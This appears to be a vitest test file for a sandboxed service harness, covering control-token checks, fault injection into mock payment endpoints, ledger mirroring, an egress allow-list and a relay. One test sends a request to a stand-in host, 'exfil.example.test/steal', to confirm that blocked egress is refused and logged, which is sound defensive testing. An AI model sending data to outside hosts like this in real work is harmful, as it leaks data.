// The services process on loopback (no Docker): control token, ordered controls, the
// ledger mirrored on the host, egress blocked and reported, and the relay.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Ledger } from '../../../../harness/model/ledger.js';
import { serveSandbox, type ServedSandbox } from '../../../../harness/sandbox/serve-sandbox.js';
import { CONTROL_TOKEN_HEADER } from '../../../../harness/sandbox/containers/protocol.js';
import { CommandQueue, ControlClient, RemoteState, remoteAcquirerControl, remoteHubControl } from '../../../../harness/sandbox/containers/remote-controls.js';
import { startFront, type Front } from '../../../../harness/sandbox/containers/front.js';
import { generateRunSecrets } from '../../../../harness/sandbox/secrets.js';

const TOKEN = 'test-control-token-0123456789';
const base = 39_000 + (process.pid % 500) * 10;
const ports = { control: base, relay: base + 1, hub: base + 2, acquirer: base + 3, egress: base + 4 };

let served: ServedSandbox;
let target: Server;
let front: Front | undefined;
const ledger = new Ledger();
const client = new ControlClient(`http://127.0.0.1:${ports.control}`, TOKEN);
const state = new RemoteState(client, ledger);
const queue = new CommandQueue(client);

beforeAll(async () => {
  served = await serveSandbox({ controlToken: TOKEN, host: '127.0.0.1', ports, names: { hub: `127.0.0.1:${ports.hub}`, acquirer: `127.0.0.1:${ports.acquirer}` } });
  state.start();
  await client.configure({ secrets: generateRunSecrets('standard-webhooks'), scopes: ['risk:write'], egress: ['hub'], maxBodyBytes: 1 << 20 });
  target = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => res.end(`echo:${req.method}:${req.url}:${body}`));
  });
  await new Promise<void>((r) => target.listen(0, '127.0.0.1', () => r()));
});

afterAll(async () => {
  state.close();
  await front?.close();
  await served.close();
  await new Promise<void>((r) => target.close(() => r()));
});

describe('serve-sandbox', () => {
  it('refuses control calls without the token', async () => {
    const res = await fetch(`http://127.0.0.1:${ports.control}/seq`);
    expect(res.status).toBe(401);
    const bad = await fetch(`http://127.0.0.1:${ports.control}/seq`, { headers: { [CONTROL_TOKEN_HEADER]: 'x'.repeat(TOKEN.length) } });
    expect(bad.status).toBe(401);
  });

  it('mirrors hub calls into the host ledger and forwards faults in order', async () => {
    const acquirer = remoteAcquirerControl(queue, state);
    acquirer.injectFault({ route: 'POST /v1/refunds', fault: { kind: 'status', status: 503 }, times: 1 });
    await queue.flush();
    const res = await fetch(`http://127.0.0.1:${ports.acquirer}/v1/refunds`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ payment: 'pay_1', amount: 100 }) });
    expect(res.status).toBe(503);
    await state.sync();
    const last = ledger.all().at(-1)!;
    expect(last).toMatchObject({ target: 'acquirer', method: 'POST', path: '/v1/refunds', status: 503, committed: false });
  });

  it('what a mock learns about an entry later (the client gave up on a hung call) reaches the host entry', async () => {
    const acquirer = remoteAcquirerControl(queue, state);
    acquirer.injectFault({ route: 'POST /v1/captures', fault: { kind: 'hang' }, times: 1 });
    await queue.flush();
    await fetch(`http://127.0.0.1:${ports.acquirer}/v1/captures`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ payment: 'pay_hang', amount: 5 }), signal: AbortSignal.timeout(300) }).catch(() => undefined);
    let entry;
    for (let i = 0; i < 40 && entry?.abandonedAfterMs === undefined; i++) {
      await new Promise((r) => setTimeout(r, 50));
      await state.sync();
      entry = ledger.all().find((e) => e.path === '/v1/captures' && e.fault === 'hang');
    }
    expect(entry?.abandonedAfterMs).toBeGreaterThanOrEqual(250);
    expect(entry?.abandonedAfterMs).toBeLessThan(5_000);
  });

  it('rejects a bad fault spec on the host, before anything is sent', () => {
    const hub = remoteHubControl(queue, state);
    expect(() => hub.injectFault({ route: '* /x', fault: { kind: 'status', status: 99 } })).toThrow(/GAUNTLET_ERR_CATALOG_INVALID|status/);
  });

  it('egress to a destination outside the allow-list is refused and recorded', async () => {
    const res = await new Promise<number>((resolve, reject) => {
      import('node:http').then(({ request }) => {
        const r = request({ host: '127.0.0.1', port: ports.egress, method: 'GET', path: 'http://exfil.example.test/steal?x=1', headers: { host: 'exfil.example.test' } }, (m) => {
          m.resume();
          resolve(m.statusCode ?? 0);
        });
        r.on('error', reject);
        r.end();
      }, reject);
    });
    expect(res).toBe(403);
    await state.sync();
    expect(ledger.all().some((e) => e.target === 'egress' && e.status === 403 && e.destination === 'exfil.example.test:80')).toBe(true);
  });

  it('relays raw bytes to an allowed target only', async () => {
    const port = (target.address() as AddressInfo).port;
    // The relay resolves targets by name; on loopback that is `localhost`.
    await client.request('POST', '/control', { target: 'relay', op: 'allow', args: [`localhost:${port}`] });
    front = await startFront({ relayHost: '127.0.0.1', relayPort: ports.relay, token: TOKEN, target: `localhost:${port}`, flush: () => queue.flush(), idle: () => queue.idle });
    const res = await fetch(`http://127.0.0.1:${front.port}/webhooks`, { method: 'POST', body: 'hello' });
    expect(await res.text()).toBe('echo:POST:/webhooks:hello');

    const denied = await startFront({ relayHost: '127.0.0.1', relayPort: ports.relay, token: TOKEN, target: 'localhost:1', flush: () => queue.flush(), idle: () => queue.idle });
    await expect(fetch(`http://127.0.0.1:${denied.port}/`, { signal: AbortSignal.timeout(5_000) })).rejects.toThrow();
    await denied.close();
  });
});
